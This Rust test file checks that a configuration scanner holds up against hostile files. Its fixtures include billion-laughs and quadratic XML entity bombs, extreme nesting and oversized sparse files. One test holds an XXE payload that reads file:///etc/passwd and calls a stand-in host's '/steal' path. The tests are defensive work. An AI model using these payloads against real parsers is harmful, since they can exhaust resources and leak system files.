//! Files that are made to hurt: nothing is fetched, nothing grows, everything ends, and what was given up is said.

use std::fs::{self, File};

use super::witness::{SECURITY, Site, assert_said, coverage, run, shown};

/// Memory that reading a small file may take, compiled plugins included: 400 MiB, while expanding a bomb takes gigabytes.
const MOST: u64 = 400 << 10;

#[track_caller]
fn bounded(site: &Site) -> super::story::Told {
    let run = run(&mut site.command("behaviour: echoes"));
    assert!(matches!(run.told.status, Some(1 | 3)), "{:?}", run.told.err);
    assert!(run.most.is_none_or(|most| most < MOST), "{:?} KiB", run.most);
    assert!(run.told.out.len() < 4 << 20, "{} bytes of output", run.told.out.len());
    run.told
}

#[test]
fn a_billion_laughs() {
    let mut laughs = "<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol0 \"ha\">\n".to_owned();
    for number in 1..=30 {
        let ten = format!("&lol{};", number - 1).repeat(10);
        laughs.push_str(&format!("<!ENTITY lol{number} \"{ten}\">\n"));
    }
    laughs.push_str("]>\n<lolz a=\"&lol30;\">&lol30;</lolz>\n");
    let told = bounded(&Site::new(&[("laughs.xml", &laughs)]));
    assert_said(&told, "laughs.xml", "partial", &["never expanded"]);
    assert_eq!(told.status, Some(3));
}

#[test]
fn one_long_entity_that_is_used_again_and_again() {
    let long = "x".repeat(100_000);
    let uses = "&long;".repeat(20_000);
    let bomb = format!("<!DOCTYPE a [<!ENTITY long \"{long}\">]>\n<a>{uses}</a>\n");
    let told = bounded(&Site::new(&[("quadratic.xml", &bomb)]));
    assert_said(
        &told,
        "quadratic.xml",
        "partial",
        &["line 2: uses its entities too much"],
    );
}

#[test]
fn entities_of_entities_and_of_documents() {
    let beside = "the-content-of-a-file-beside-it";
    let xml = "<?xml version=\"1.0\"?>
<!DOCTYPE a SYSTEM \"http://192.0.2.1/evil.dtd\" [
<!ENTITY % all SYSTEM \"beside.txt\">
%all;
<!ENTITY plain SYSTEM \"beside.txt\">
<!ENTITY here SYSTEM \"file:///etc/passwd\">
<!ENTITY there SYSTEM \"http://192.0.2.1/steal\">
]>
<a b=\"&plain;\"><c>&plain;</c><d>&here;</d><e>&there;</e><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"beside.txt\"/></a>
";
    let site = Site::new(&[("outside.xml", xml), ("beside.txt", beside)]);
    let told = bounded(&site);
    assert!(
        !told.out.contains(beside) && !told.out.contains("root:"),
        "{}",
        told.out
    );
    for name in ["plain", "here", "there"] {
        let said = format!("external entity, `&{name};`: never read");
        assert!(
            coverage(&told).iter().any(|entry| entry.contains(&said)),
            "{said} in {:#?}",
            coverage(&told)
        );
    }
    assert!(shown(&told).contains("&plain;"), "left as it is written");
}

#[test]
fn a_hundred_thousand_declarations() {
    let many: String = (0..100_000)
        .map(|number| format!("<!ENTITY e{number} \"&e{};\">\n", number + 1))
        .collect();
    let bomb = format!("<!DOCTYPE a [\n{many}]>\n<a>&e0;</a>\n");
    let told = bounded(&Site::new(&[("many.xml", &bomb)]));
    assert_eq!(told.status, Some(3), "{:#?}", coverage(&told));
}

#[test]
fn a_hundred_thousand_levels() {
    let (open, close) = ("<a>".repeat(100_000), "</a>".repeat(100_000));
    let told = bounded(&Site::new(&[
        ("deep.xml", &format!("{open}{close}")),
        ("open.xml", &open),
        ("httpd.conf", &"<IfModule x>\n".repeat(100_000)),
        (".profile", &format!("A={}\n", "$(".repeat(100_000))),
        ("proxy-x.dynamic", &"allow(".repeat(100_000)),
    ]));
    assert_said(
        &told,
        "deep.xml",
        "partial",
        &["line 1: is nested more than 512 levels deep"],
    );
    assert_said(
        &told,
        "open.xml",
        "partial",
        &["line 1: is nested more than 512 levels deep"],
    );
    assert_said(&told, "httpd.conf", "partial", &["is nested more than 512 levels deep"]);
}

#[test]
fn an_attribute_of_a_megabyte() {
    let long = "x".repeat(1 << 20);
    let xml = format!("<root>\n<a long=\"{long}\" short=\"here\"/>\n<b v=\"behind\"/>\n</root>\n");
    let told = bounded(&Site::new(&[
        ("long.xml", &xml),
        ("long.properties", &format!("key={long}\nnext=behind\n")),
    ]));
    assert_eq!(told.gaps(), []);
    assert_eq!(shown(&told).matches("behind").count(), 2);
}

#[test]
fn more_elements_than_a_tree_may_have() {
    let xml = format!("<root>{}</root>", "<a/>".repeat(1_100_000));
    let site = Site::new(&[("wide.xml", &xml)]);
    let run = run(&mut site.command("behaviour: behaves"));
    assert_said(&run.told, "wide.xml", "partial", &["has more than 1000000 elements"]);
    assert!(run.most.is_none_or(|most| most < 2 * MOST), "{:?} KiB", run.most);
}

/// A hole on the disk, which reads as zeros.
#[test]
fn a_file_of_200_megabytes_is_not_read_and_the_limit_is_said() {
    let site = Site::new(&[("small/security.xml", SECURITY)]);
    for name in ["security.xml", "export.xml", "ssl.client.props", "key.p12", "unnamed"] {
        let path = site.path().join(name);
        // As much of it is text as is looked at to recognise a file without a name.
        fs::write(&path, format!("{SECURITY}{}", "\n".repeat(128 << 10))).expect("a file");
        let file = File::options().write(true).open(&path).expect("the file");
        file.set_len(200 << 20).expect("a hole");
    }
    let run = run(&mut site.command("behaviour: behaves"));
    let files: Vec<_> = run.told.gaps().into_iter().map(|(file, _)| file).collect();
    assert_eq!(
        files,
        ["export.xml", "key.p12", "security.xml", "ssl.client.props", "unnamed"]
    );
    for (file, reason) in run.told.gaps() {
        assert_eq!(
            reason, "is 200 MiB; a configuration file may have 64, so nothing in it was checked",
            "{file}"
        );
    }
    assert_eq!(run.told.findings().len(), 1, "{:?}", run.told.places());
    assert!(run.most.is_none_or(|most| most < MOST), "{:?} KiB", run.most);
}
